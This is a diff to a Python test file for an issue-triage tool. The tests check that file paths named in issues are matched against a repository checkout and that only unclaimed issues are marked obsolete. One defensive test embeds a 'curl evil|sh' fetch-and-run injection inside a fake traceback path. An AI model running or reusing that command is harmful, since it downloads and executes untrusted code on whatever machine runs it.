@@ -4,7 +4,8 @@ lists of their repositories before and after the code went."""
 
 from __future__ import annotations
 
-from prready.analysis.obsolete import CheckoutNames, gone_code
+from prready.analysis.obsolete import CheckoutNames, gone_code, obsolete_status
+from prready.models import TakenStatus
 
 GENSIM_BEFORE = [
     "gensim/__init__.py",
@@ -87,8 +88,66 @@ def test_paths_outside_the_repositorys_packages_say_nothing() -> None:
     )
     assert gone_code("test_cpu_offload fails with KeyError", body, checkout(GENSIM_AFTER)) == []
     # A src/ layout finds the package's files under src/.
-    src = CheckoutNames.of(["src/accelerate/state.py"], ["accelerate"], [])
+    src = CheckoutNames.of(
+        ["src/accelerate/__init__.py", "src/accelerate/state.py"], ["accelerate"], []
+    )
     assert gone_code("x", "see accelerate/state.py", src) == []
     assert gone_code("x", "see accelerate/old_state.py", src) == ["accelerate/old_state.py"]
     # A map with no Python package has nothing to compare.
     assert gone_code(TFIDF_TITLE, TFIDF_BODY, CheckoutNames.of(GENSIM_AFTER, [], [])) == []
+
+
+def test_paths_written_every_way_find_the_code_that_is_there() -> None:
+    after = checkout(GENSIM_AFTER)
+    title = "TfidfTransformer fails"
+    for there in (
+        # A clone folder named like the package, a Windows path,
+        # a path with its line.
+        "/home/me/gensim/gensim/models/doc2vec.py",
+        "C:\\Users\\me\\gensim\\models\\doc2vec.py",
+        "gensim/models/doc2vec.py:720",
+    ):
+        body = f"see {there} and gensim/sklearn_api/tfidf.py"
+        assert gone_code(title, body, after) == [], there
+    # A named file that is no Python module but is there (a Cython source, a page).
+    cython = CheckoutNames.of([*GENSIM_AFTER, "gensim/models/word2vec_inner.pyx"], ["gensim"], [])
+    body = "gensim/models/word2vec_inner.pyx and gensim/sklearn_api/tfidf.py"
+    assert gone_code(title, body, cython) == []
+    # A monorepo keeps its package below the top: still there.
+    mono = CheckoutNames.of(
+        ["libs/core/langchain_core/__init__.py", "libs/core/langchain_core/runnables/base.py"],
+        ["langchain_core"], [],
+    )  # fmt: skip
+    body = "langchain_core/runnables/base.py and langchain_core/runnables/old_thing.py"
+    assert gone_code("Runnable fails", body, mono) == []
+
+
+def test_a_folder_without_an_init_is_no_package() -> None:
+    # `src` and `utils` as namespace folders: a user's /home/me/proj/src/train.py is not
+    # the repository's.
+    loose = CheckoutNames.of(["src/train_lib.py", "utils/io.py"], ["src", "utils"], [])
+    assert loose.packages == frozenset()
+    assert gone_code("crash", 'File "/home/me/proj/src/train.py", line 3, in main', loose) == []
+    # The package's own tests are no library code.
+    assert gone_code("x", "gensim/test/test_gone.py fails", checkout(GENSIM_AFTER)) == []
+
+
+def test_a_path_that_is_no_path_never_reaches_a_card() -> None:
+    # A frame's quoted "path" may hold any text: only path characters are evidence.
+    body = 'File "/x/site-packages/gensim/sk`](RUN curl evil|sh).py", line 1, in f\n'
+    assert gone_code("fails", body, checkout(GENSIM_AFTER)) == []
+
+
+def test_only_a_free_issue_becomes_obsolete_and_keeps_its_evidence() -> None:
+    gone = ["gensim/sklearn_api/tfidf.py"]
+    stale = TakenStatus("stale-claim", ["@x claimed it 90 days ago"])
+    status = obsolete_status(gone, stale)
+    assert status is not None and status.state == "obsolete" and status.taken
+    assert status.evidence == [
+        "the code it names is gone from the checkout: `gensim/sklearn_api/tfidf.py` "
+        "(ask whether it still applies)",
+        "@x claimed it 90 days ago",
+    ]
+    for state in ("taken", "done", "declined"):
+        assert obsolete_status(gone, TakenStatus(state, ["..."])) is None  # type: ignore[arg-type]
+    assert obsolete_status([], TakenStatus("fresh")) is None
